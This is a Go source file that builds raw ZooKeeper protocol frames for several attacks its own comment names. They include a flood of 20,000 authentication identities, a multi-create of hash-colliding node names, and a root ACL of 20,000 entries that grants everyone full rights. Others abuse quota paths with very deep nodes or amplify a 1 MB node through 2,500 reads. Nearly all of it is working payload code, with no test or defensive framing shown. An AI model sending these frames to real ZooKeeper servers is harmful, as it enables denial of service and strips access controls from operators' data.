package main

import (
	"encoding/binary"
	"fmt"
	"strings"
)

// The operations of the attacks, as ZooDefs.OpCode of ZooKeeper numbers them.
const (
	opCreate    = 1
	opDelete    = 2
	opGetData   = 4
	opSetACL    = 7
	opMulti     = 14
	opMultiRead = 22
	opAuth      = 100
)

func manyIdentities() [][]byte {
	var frames [][]byte
	for i := range 20_000 {
		b := header(-4, opAuth)
		b = binary.BigEndian.AppendUint32(b, 0)
		b = appendText(b, "digest")
		frames = append(frames, sealed(appendText(b, fmt.Sprintf("user%d:password", i))))
	}
	return frames
}

func oneHash() [][]byte {
	b := header(1, opMulti)
	for i := range 1 << 13 {
		var name strings.Builder
		for bit := range 13 { // "Aa" and "BB" have the same hash
			name.WriteString([]string{"Aa", "BB"}[i>>bit&1])
		}
		b = appendMultiHeader(b, opCreate, false, -1)
		b = appendCreate(b, "/"+name.String(), nil)
	}
	return [][]byte{sealed(appendMultiHeader(b, -1, true, -1))}
}

// longACLs lets everybody change the ACL again.
func longACLs() [][]byte {
	var frames [][]byte
	for n := range int32(3) {
		b := appendText(header(n+1, opSetACL), "/")
		b = binary.BigEndian.AppendUint32(b, 20_000)
		b = appendEntry(b, "world", "anyone")
		for i := range 19_999 {
			b = appendEntry(b, "ip", fmt.Sprintf("10.%d.%d.%d", n, i>>8, i&255))
		}
		frames = append(frames, sealed(binary.BigEndian.AppendUint32(b, 0xffffffff))) // any version
	}
	return frames
}

func deepNodes() [][]byte {
	var frames [][]byte
	xid := int32(0)
	add := func(op int32, body func([]byte) []byte) {
		xid++
		frames = append(frames, sealed(body(header(xid, op))))
	}
	create := func(path string) {
		add(opCreate, func(b []byte) []byte { return appendCreate(b, path, nil) })
	}
	create("/zookeeper/quota/a")
	create("/zookeeper/quota/a/zookeeper_limits")
	for depth := 1; depth < 400; depth++ {
		create(strings.Repeat("/a", depth))
	}
	for range 100 {
		path := strings.Repeat("/a", 400)
		create(path)
		add(opDelete, func(b []byte) []byte {
			return binary.BigEndian.AppendUint32(appendText(b, path), 0xffffffff)
		})
	}
	return frames
}

func hugeReply() [][]byte {
	create := appendCreate(header(1, opCreate), "/a", make([]byte, 1_000_000))
	read := header(2, opMultiRead)
	for range 2500 {
		read = appendText(appendMultiHeader(read, opGetData, false, -1), "/a")
		read = append(read, 0) // no watch
	}
	return [][]byte{sealed(create), sealed(appendMultiHeader(read, -1, true, -1))}
}

// header begins a frame; sealed writes its length.
func header(xid, op int32) []byte {
	b := binary.BigEndian.AppendUint32(make([]byte, 4), uint32(xid))
	return binary.BigEndian.AppendUint32(b, uint32(op))
}

func sealed(frame []byte) []byte {
	binary.BigEndian.PutUint32(frame, uint32(len(frame)-4))
	return frame
}

func appendText(b []byte, text string) []byte { return appendBuffer(b, []byte(text)) }

// appendCreate writes a persistent node that is open to all.
func appendCreate(b []byte, path string, data []byte) []byte {
	b = appendBuffer(appendText(b, path), data)
	b = appendEntry(append(b, 0, 0, 0, 1), "world", "anyone")
	return binary.BigEndian.AppendUint32(b, 0)
}

// appendEntry writes an entry of an ACL with all permissions.
func appendEntry(b []byte, scheme, id string) []byte {
	return appendText(appendText(binary.BigEndian.AppendUint32(b, 31), scheme), id)
}

func appendBuffer(b, data []byte) []byte {
	return append(binary.BigEndian.AppendUint32(b, uint32(len(data))), data...)
}

// appendMultiHeader writes the header of a part of a multi or, with done, that of its end.
func appendMultiHeader(b []byte, op int32, done bool, code int32) []byte {
	b = binary.BigEndian.AppendUint32(b, uint32(op))
	if done {
		b = append(b, 1)
	} else {
		b = append(b, 0)
	}
	return binary.BigEndian.AppendUint32(b, uint32(code))
}
